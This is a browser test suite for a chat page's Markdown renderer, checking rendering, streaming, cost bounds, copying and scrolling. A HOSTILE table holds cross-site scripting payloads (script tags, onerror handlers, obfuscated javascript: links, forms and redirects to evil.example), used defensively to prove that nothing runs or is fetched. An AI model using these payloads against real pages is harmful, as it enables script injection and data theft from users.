"""Owns the proof that answers are read as Markdown, safely and at a bounded cost: a real browser, and made-up streams.
Never waits for a clock: the tests make the frames in which the page draws."""

from __future__ import annotations

import json
from collections.abc import Iterator

import pytest

from tests.support.browser import PROGRAM, Page, browsing
from tests.support.page_stage import answer, script, stage

pytestmark = [
    pytest.mark.slow,
    pytest.mark.skipif(PROGRAM is None, reason="no chromium here: `apt-get install chromium` brings it"),
]

TEXT = "[...document.querySelectorAll('.message.assistant .text')].at(-1)"


@pytest.fixture(scope="module")
def url() -> Iterator[str]:
    with stage() as address:
        yield address


@pytest.fixture(scope="module")
def browser() -> Iterator[Page]:
    with browsing() as page:
        page.resize(1280, 900)
        yield page


@pytest.fixture
def page(browser: Page, url: str) -> Iterator[Page]:
    """Open the page anew, with scripted chats; nothing may complain, and nothing may be fetched from elsewhere."""
    browser.complaints.clear()
    browser.fetched.clear()
    browser.open(url)
    browser.until("document.querySelector('#model').length > 1")
    script(browser)
    yield browser
    assert browser.complaints == []
    assert [address for address in browser.fetched if not address.startswith((url, "data:"))] == []


def count(page: Page, selector: str) -> int:
    return int(page.value(f"{TEXT}.querySelectorAll({json.dumps(selector)}).length"))


def words(page: Page, selector: str) -> list[str]:
    found: list[str] = page.value(f"[...{TEXT}.querySelectorAll({json.dumps(selector)})].map((e) => e.textContent)")
    return found


def text(page: Page) -> str:
    return str(page.value(f"{TEXT}.textContent"))


DOCUMENT = """# Ships

A *slow* **old** `ship` with a [chart](https://example.org/a?b=1&c=2 "of the sea"), 3 * 4 * 5 and snake_case_name.
A second line &amp; more: a[0] = b[1];

1. one
2. two
   - nested **point**
   - [x] done

3. three

> quoted
> twice

| ship | knots |
|:-----|------:|
| Petrel | 12 |
| Aurora | 9<br>or 10 |

```python
def ship(name: str) -> str:  # a comment
    return f"{name} <b>"
```

    indented code

---

[ref]: https://example.org/ref
See [the reference][ref] and https://example.org/bare.

```
never closed
"""


def test_markdown_is_shown_as_what_it_means(page: Page) -> None:
    answer(page, [DOCUMENT])
    assert words(page, "h4") == ["Ships"]
    assert words(page, "em") == ["slow"]
    assert words(page, "strong") == ["old", "point"]
    assert words(page, "p code") == ["ship"]
    assert words(page, "ol > li > ul > li") == ["nested point", "☑ done"]
    assert words(page, "blockquote br") == [""]
    assert words(page, "th") == ["ship", "knots"]
    assert words(page, "td.right") == ["12", "9or 10"]
    assert words(page, ".code-bar span") == ["python", "code", "code"]
    assert words(page, "pre") == [
        'def ship(name: str) -> str:  # a comment\n    return f"{name} <b>"',
        "indented code",
        "never closed",
    ]
    assert words(page, "pre .keyword") == ["def", "return"]
    assert words(page, "pre .comment") == ["# a comment"]
    assert words(page, "pre .string") == ['"{name} <b>"']
    assert count(page, "hr") == 1
    assert "snake_case_name" in text(page)
    assert "3 * 4 * 5" in text(page)
    assert "& more: a[0] = b[1];" in text(page)
    links = page.value(f"[...{TEXT}.querySelectorAll('a')].map((a) => [a.href, a.rel, a.target])")
    apart = ["noopener noreferrer nofollow", "_blank"]
    assert links == [
        ["https://example.org/a?b=1&c=2", *apart],
        ["https://example.org/ref", *apart],
        ["https://example.org/bare", *apart],
    ]


@pytest.mark.parametrize("size", [1, 7])
@pytest.mark.parametrize("refers", [True, False], ids=["with definitions", "without"])
def test_an_answer_that_grows_ends_as_one_that_came_whole(page: Page, size: int, refers: bool) -> None:
    """With definitions all of it is read once more at its end; without, what was read on the way has to be right."""
    written = DOCUMENT if refers else DOCUMENT.replace("[ref]: https://example.org/ref\n", "")
    answer(page, [written])
    whole = page.value(f"{TEXT}.innerHTML")
    answer(page, [written[at : at + size] for at in range(0, len(written), size)])
    assert page.value("numFrames") > len(written) / size, "it was drawn with every piece"
    assert page.value(f"{TEXT}.innerHTML") == whole


def test_the_part_of_an_answer_that_has_come_is_read_while_the_rest_is_written(page: Page) -> None:
    answer(page, ["Some **bo", "ld** words.\n\n```py\nx = 1\ny", " = 2"], stays_open=True)
    page.until(f"{TEXT}.querySelector('pre')")
    page.value("frame(); frame(); 0")
    assert words(page, "strong") == ["bold"]
    assert words(page, "pre") == ["x = 1\ny = 2"]
    page.click("#stop")
    page.until("document.querySelector('#stop').hidden")
    assert words(page, "pre") == ["x = 1\ny = 2"], "what was there when it was stopped stays"
    assert count(page, "pre .number") == 2


HOSTILE = {
    "a script": "<script>pwned = 1</script>\n\nx <script>pwned = 1</script>",
    "an image that fails": "<img src=x onerror=pwned=1> and\n\n<img src=x onerror='pwned=1'>",
    "svg": "<svg/onload=pwned=1>\n\n<svg><script>pwned=1</script></svg>",
    "frames": "<iframe src='javascript:parent.pwned=1'></iframe><iframe srcdoc='<script>parent.pwned=1</script>'>",
    "a form": "<form action=https://evil.example><input autofocus onfocus=pwned=1><button>Key</button></form>",
    "style": "<style>@import 'https://evil.example/x.css'; * { display: none }</style><p style='position:fixed'>over",
    "a base and a refresh": "<base href=https://evil.example/><meta http-equiv=refresh content='0;url=//evil.example'>",
    "links that run": "[a](javascript:pwned=1) [b](JaVaScRiPt&colon;pwned=1) [c](java\tscript:pwned=1) "
    "[d](data:text/html,<script>pwned=1</script>) [e](vbscript:x) <javascript:pwned=1> [f](&#106;avascript:pwned=1) "
    "[g][r]\n\n[r]: javascript:pwned=1\n",
    "links to this server": "[a](/admin/drain) [b](admin/drain) [c](//evil.example/x) [d](blob:x) [e](file:///etc)",
    "images": "![a](https://evil.example/a.png) ![b](//evil.example/b.png) ![c](data:image/svg+xml,<svg onload=x>) "
    "![d](/x)",
    "attributes that escape": '[a](https://x.example/"onmouseover="pwned=1) '
    "[b](https://x.example 'x\" onclick=\"pwned=1')"
    '\n\n```"><img/src/onerror=pwned=1>\ncode\n```',
    "names of objects": "__proto__ [constructor] [x][__proto__] [toString]: x\n\n[__proto__]: https://x.example\n\n"
    "```constructor\ny = 1\n```\n\n```__proto__\n```",
    "a comment, and half an element": "<!-- \n\n<scr\n\n<script src=https://evil.example/x.js",
}


@pytest.mark.parametrize("name", HOSTILE)
def test_whatever_a_model_writes_runs_nothing_and_fetches_nothing_and_is_seen(page: Page, name: str) -> None:
    written = HOSTILE[name]
    answer(page, list(written))
    made = set(page.value(f"[...{TEXT}.querySelectorAll('*')].map((e) => e.localName)"))
    allowed = {"p", "a", "br", "span", "code", "pre", "div", "button", "strong", "em", "ul", "li"}
    assert made <= allowed
    attributes = page.value(f"[...{TEXT}.querySelectorAll('*')].flatMap((e) => e.getAttributeNames())")
    assert set(attributes) <= {"class", "href", "rel", "target", "title", "type", "data-lang"}
    links = page.value(f"[...{TEXT}.querySelectorAll('a')].map((a) => a.href)")
    assert all(link.startswith("https://") for link in links), links
    assert page.value("typeof pwned") == "undefined"
    assert page.value("location.pathname") == "/"
    shown = text(page)
    if "[" not in written and "```" not in written:
        assert "".join(shown.split()) == "".join(written.split()), "markup is shown as it was written"
    assert shown.strip()


def test_no_script_can_make_markup_of_a_text_even_if_it_wanted_to(page: Page) -> None:
    """The policy forbids it, so that a mistake in this page's scripts is an error and not a hole."""
    refused = (
        "(() => { try { document.body.insertAdjacentHTML('beforeend', '<b>x</b>'); } catch (e) { return e.name; } })()"
    )
    assert page.value(refused) == "TypeError"
    assert any("TrustedHTML" in told for told in page.complaints)
    page.complaints.clear()


WEIRD = {
    "quotes in quotes": ">" * 3000 + " deep",
    "lists in lists": "- " * 3000 + "deep",
    "brackets": "[" * 20000,
    "stars": "**a *b " * 4000,
    "links in links": "[a](" * 6000,
    "backticks": "`" + "a``" * 6000,
    "angles": "<a " * 7000,
    "one long word": "x" * 60000,
    "pipes": "|" * 9000 + "\n" + "|-" * 4500 + "\n",
    "tildes and signs": "~~_a_" * 4000,
    "addresses": "a@b." * 5000,
}


@pytest.mark.parametrize("name", WEIRD)
def test_a_text_that_is_hard_to_read_is_shown_nevertheless(page: Page, name: str) -> None:
    written = WEIRD[name]
    answer(page, [written[at : at + 500] for at in range(0, len(written), 500)])
    shown = text(page)
    kept = "x" if name == "one long word" else "deep" if "deep" in written else None
    assert shown.count("x") == 60000 if kept == "x" else kept is None or kept in shown
    assert page.value("document.querySelector('#prompt').disabled") is False


LONG = {
    "paragraphs": ("word ", lambda i: "\n\n" if i % 40 == 39 else ""),
    "one block of code": ("x = 1; ", lambda i: "\n" if i % 9 == 8 else ""),
    "one table": ("word ", lambda i: "|\n" if i % 16 == 15 else "| " if i % 4 == 3 else ""),
    "one line": ("word ", lambda i: ""),
    "one list": ("word ", lambda i: "\n- " if i % 4 == 3 else ""),
}
BEFORE = {"one block of code": "```python\n", "one table": "a|b|c|d\n-|-|-|-\n", "one list": "- "}
SMALL = 4096


@pytest.mark.parametrize("name", LONG)
def test_an_answer_of_20000_tokens_is_read_a_bounded_number_of_times(page: Page, name: str) -> None:
    token, after = LONG[name]
    pieces = [BEFORE.get(name, ""), *(token + after(i) for i in range(20000))]
    page.value(
        """
        window.read = [];
        const real = marked.Lexer.prototype.blockTokens;
        marked.Lexer.prototype.blockTokens = function (text, into, ...rest) {
          if (into === this.tokens) read.push(text.length);
          return real.call(this, text, into, ...rest);
        };
        0
        """
    )
    answer(page, pieces, every=100)
    read, frames, length = page.value("read"), page.value("numFrames"), sum(map(len, pieces))
    assert frames >= 200
    assert len(read) <= frames + 1, "at most once a frame, and at the end"
    assert sum(size for size in read if size > SMALL) <= 12 * length, "a long block is read ever more rarely"
    if name == "paragraphs":
        assert max(read) < SMALL, "a block that is whole is not read again"
        assert count(page, "p") == 500
    if name == "one table":
        assert count(page, "tbody tr") == 1250
    if name == "one list":
        assert count(page, "ul > li") >= 5000
    if name == "one block of code":
        assert words(page, "pre") == ["".join(pieces[1:]).rstrip("\n")]
    if name == "one line":
        assert text(page).strip() == "".join(pieces).strip()


def test_an_answer_and_its_code_are_copied_as_they_were_written(page: Page) -> None:
    written = "Say **this**:\n\n```sh\necho 'a  b' # c\n```\n"
    answer(page, [written])
    page.value("navigator.clipboard.writeText = async (text) => { window.copied = text; }; 0")
    page.click(".code button.copy")
    page.until("window.copied")
    assert page.value("copied") == "echo 'a  b' # c"
    page.click(".after button.copy")
    page.until("copied !== \"echo 'a  b' # c\"")
    assert page.value("copied") == written
    # A page without TLS has no clipboard: then the browser's own command copies.
    page.value(
        """
        navigator.clipboard.writeText = () => Promise.reject(new Error("none"));
        document.addEventListener("copy", () => { window.copied = String(document.activeElement.value); });
        copied = null
        """
    )
    page.click(".code button.copy")
    page.until("copied !== null")
    assert page.value("copied") == "echo 'a  b' # c"
    page.until("document.querySelector('.code button.copy').textContent === 'Copied'")


def test_a_reader_who_has_scrolled_up_is_left_there_and_one_at_the_end_follows(page: Page) -> None:
    answer(page, ["a line\n\n"] * 60, stays_open=True)
    log = "document.querySelector('#log')"
    left = f"{log}.scrollHeight - {log}.scrollTop - {log}.clientHeight"
    more = "pieces.push(...Array(30).fill('more\\n\\n')); goOn(); 0"
    page.until(f"{TEXT}.querySelectorAll('p').length === 60")
    page.value("frame(); 0")
    assert page.value(left) < 80, "it follows"
    scrolled = f"(done) => {{ {log}.addEventListener('scroll', () => done(0), {{once: true}}); {log}.scrollTop = 5; }}"
    page.value(f"new Promise({scrolled})")
    page.value(more)
    page.until(f"{TEXT}.querySelectorAll('p').length === 90")
    page.value("frame(); 0")
    assert page.value(f"{log}.scrollTop") == 5, "somebody reads there"
    page.value(f"new Promise({scrolled.replace('= 5', f'= {log}.scrollHeight')})")
    page.value(more)
    page.until(f"{TEXT}.querySelectorAll('p').length === 120")
    page.value("frame(); 0")
    assert page.value(left) < 80, "it follows again"
